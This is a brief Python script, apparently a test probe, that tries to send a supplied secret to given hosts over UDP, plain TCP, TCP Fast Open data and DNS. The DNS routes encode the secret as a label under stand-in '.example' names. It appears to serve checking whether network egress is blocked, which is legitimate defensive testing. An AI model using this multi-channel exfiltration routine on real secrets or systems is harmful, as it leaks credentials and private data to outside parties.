"""What an app or a test would do to send what it knows to somebody outside. Standard library only;
whom to, as JSON."""

import contextlib
import json
import socket
import sys

TOLD = json.loads(sys.argv[1])
TEXT = TOLD["secret"].encode()
# A question for the name SECRET.example, as a resolver would send it to whoever serves that name.
QUESTION = (
    b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    + bytes([len(TEXT)])
    + TEXT
    + b"\x07example\x00\x00\x01\x00\x01"
)

for host in TOLD["hosts"]:
    for text in (TEXT, QUESTION):
        with (
            contextlib.suppress(OSError),
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram,
        ):
            datagram.sendto(text, (host, TOLD["udp"]))
    for port in TOLD["tcp"]:
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, port), timeout=60) as link,
        ):
            link.sendall(TEXT)
        with contextlib.suppress(OSError), socket.socket() as fast:
            fast.sendto(
                TEXT, 0x20000000, (host, port)
            )  # what is sent along with opening a connection
with contextlib.suppress(OSError):
    socket.getaddrinfo(f"{TOLD['secret']}.example.invalid", 80)
print("done")
